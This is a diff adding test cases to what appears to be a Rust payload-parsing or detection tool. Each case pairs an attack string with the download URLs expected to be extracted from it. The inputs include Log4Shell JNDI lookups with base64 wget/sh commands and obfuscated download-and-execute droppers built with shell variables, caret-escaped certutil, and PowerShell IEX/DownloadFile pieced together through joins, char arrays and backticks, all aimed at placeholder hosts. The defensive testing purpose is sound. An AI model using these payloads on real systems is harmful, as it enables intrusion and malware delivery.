@@ -171,4 +171,15 @@ forms! {
     jndi_obfuscated_lower_and_defaults: b"User-Agent: ${${lower:j}${::-n}di:${env:x:-l}dap://192.0.2.70/Basic/Command/Base64/Y2QgL3RtcDsgd2dldCBodHRwOi8vMTkyLjAuMi43My9sNGouc2ggLU8gL3RtcC9rOyBzaCAvdG1wL2s=}\r\n" => ["http 192.0.2.73 - - - /l4j.sh k"];
     jndi_percent_encoded_in_header: b"Referer: %24%7Bjndi%3Aldap%3A%2F%2F192.0.2.70%2FBasic%2FCommand%2FBase64%2FY3VybCAtbyAvdG1wL3EgaHR0cDovLzE5Mi4wLjIuNzQvcQ%3D%3D%7D\r\n" => ["http 192.0.2.74 - - - /q q"];
     jndi_reverse_shell_path_fetches_nothing: b"${jndi:ldap://192.0.2.70:1389/Basic/ReverseShell/192.0.2.9/4444}" => [];
+    built_shell_variable_and_braces: b"u=http://192.0.2.80; wget $u/x; curl ${u}/y" => ["http 192.0.2.80 - - - / index.html", "http 192.0.2.80 - - - /x x", "http 192.0.2.80 - - - /y y"];
+    built_shell_export_quoted_host_and_port: b"export H=\"192.0.2.85\"; P=8080; wget http://$H:$P/bins/a -O /tmp/q" => ["http 192.0.2.85 8080 - - /bins/a q"];
+    built_shell_for_loop_over_literal_list: b"U=http://192.0.2.81/b; for a in arm mips; do wget $U.$a -O /tmp/$a; done" => ["http 192.0.2.81 - - - /b b", "http 192.0.2.81 - - - /b.arm arm", "http 192.0.2.81 - - - /b.mips mips"];
+    built_cmd_set_and_percent_variable: b"cmd /c \"set u=http://192.0.2.82/c.exe&& certutil -urlcache -f %u% c2.exe\"" => ["http 192.0.2.82 - - - /c.exe c2.exe"];
+    built_cmd_caret_escapes: b"cmd /c c^e^r^t^u^t^i^l -urlcache -f http://192.0.2.86/d.exe d2.exe" => ["http 192.0.2.86 - - - /d.exe d2.exe"];
+    built_powershell_variables_and_plus: b"powershell -c \"$h='192.0.2.83'; $u='http://'+$h+'/e.ps1'; IEX (New-Object Net.WebClient).DownloadString($u)\"" => ["http 192.0.2.83 - - - /e.ps1 e.ps1"];
+    built_powershell_join: b"powershell -c \"IEX (New-Object Net.WebClient).DownloadString(('ht','tp://192.0.2.87/f.ps1') -join '')\"" => ["http 192.0.2.87 - - - /f.ps1 f.ps1"];
+    built_powershell_format_operator: b"powershell -c \"(New-Object Net.WebClient).DownloadFile(('{0}://{1}/g.exe' -f 'http','192.0.2.88'),'C:\\g2.exe')\"" => ["http 192.0.2.88 - - - /g.exe g2.exe"];
+    built_powershell_char_list_and_backticks: b"powershell -c \"$x=[char[]](104,116,116,112,58,47,47) -join ''; i`wr ($x+'192.0.2.84/h.exe') -OutFile h2.exe\"" => ["http 192.0.2.84 - - - /h.exe h2.exe"];
+    built_powershell_char_cast_plus: b"powershell Ne`w-Obj`ect Net.WebClient).DownloadFile([char]104+'ttp://192.0.2.89/i.exe', 'i2.exe')" => ["http 192.0.2.89 - - - /i.exe i2.exe"];
+    built_target_variables_stay_unknown: b"wget http://192.0.2.90/$ARCH -O $HOME/z" => ["http 192.0.2.90 - - - /$ARCH z"];
 }
